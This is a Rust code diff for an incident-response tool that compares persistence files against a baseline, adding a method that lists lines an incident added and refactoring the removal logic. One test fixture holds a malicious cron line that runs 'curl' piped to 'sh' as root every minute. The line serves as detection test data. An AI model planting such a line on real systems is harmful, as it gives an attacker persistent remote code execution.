@@ -161,9 +161,9 @@ impl Baseline {
         }
     }
 
-    /// Removes from `path` every line the baseline lacks. Returns the removed lines with their
-    /// line numbers; None when the baseline does not know the file.
-    pub fn strip(&mut self, path: &str) -> Option<std::io::Result<Vec<(usize, String)>>> {
+    /// The lines `path` holds now that the baseline lacks, with their line numbers, and the
+    /// lines to keep. None when the baseline does not know the file.
+    fn diff(&self, path: &str) -> Option<std::io::Result<Split>> {
         let known = self.files.get(path)?;
         let current = match fs::read_to_string(path) {
             Ok(t) => lines_of(&t),
@@ -173,26 +173,50 @@ impl Baseline {
         for l in &known.lines {
             *budget.entry(l.trim_end_matches('\n')).or_default() += 1;
         }
-        let (mut keep, mut removed) = (Vec::new(), Vec::new());
-        for (i, l) in current.iter().enumerate() {
+        let mut split = Split::default();
+        for (i, l) in current.into_iter().enumerate() {
             match budget.get_mut(l.trim_end_matches('\n')) {
                 Some(n) if *n > 0 => {
                     *n -= 1;
-                    keep.push(l.clone());
+                    split.keep.push(l);
                 }
-                _ => removed.push((i, l.clone())),
+                _ => split.added.push((i, l)),
             }
         }
-        if removed.is_empty() {
-            return Some(Ok(removed));
+        Some(Ok(split))
+    }
+
+    /// The lines `path` holds now that the baseline lacks (what an incident added and
+    /// nobody removed since). None when the baseline does not know the file.
+    pub fn added(&self, path: &str) -> Option<std::io::Result<Vec<String>>> {
+        self.diff(path)
+            .map(|r| r.map(|s| s.added.into_iter().map(|(_, l)| l).collect()))
+    }
+
+    /// Removes from `path` every line the baseline lacks. Returns the removed lines with their
+    /// line numbers; None when the baseline does not know the file.
+    pub fn strip(&mut self, path: &str) -> Option<std::io::Result<Vec<(usize, String)>>> {
+        let split = match self.diff(path)? {
+            Ok(s) => s,
+            Err(e) => return Some(Err(e)),
+        };
+        if split.added.is_empty() {
+            return Some(Ok(split.added));
         }
-        let result = rewrite(Path::new(path), &keep.concat()).map(|()| removed);
+        let result = rewrite(Path::new(path), &split.keep.concat()).map(|()| split.added);
         if result.is_ok() {
             self.tainted.remove(path);
             self.read(path);
         }
         Some(result)
     }
+}
+
+/// A persistence file's lines, split against the baseline.
+#[derive(Default)]
+struct Split {
+    keep: Vec<String>,
+    added: Vec<(usize, String)>,
 }
 
 /// Puts `lines` back into `path`, each at its former line number (or at the end).
@@ -257,7 +281,16 @@ mod tests {
         )
         .expect("write");
         b.refresh(); // tainted: the baseline keeps the old content
+        assert_eq!(
+            b.added(&path).expect("known").expect("read"),
+            vec!["* * * * * root curl x|sh\n".to_owned()],
+            "verification sees what the incident added"
+        );
         let removed = b.strip(&path).expect("known").expect("strip");
+        assert!(
+            b.added(&path).expect("known").expect("read").is_empty(),
+            "and nothing once it is removed"
+        );
         assert_eq!(removed, vec![(1, "* * * * * root curl x|sh\n".to_owned())]);
         assert_eq!(
             fs::read_to_string(&f).expect("read"),
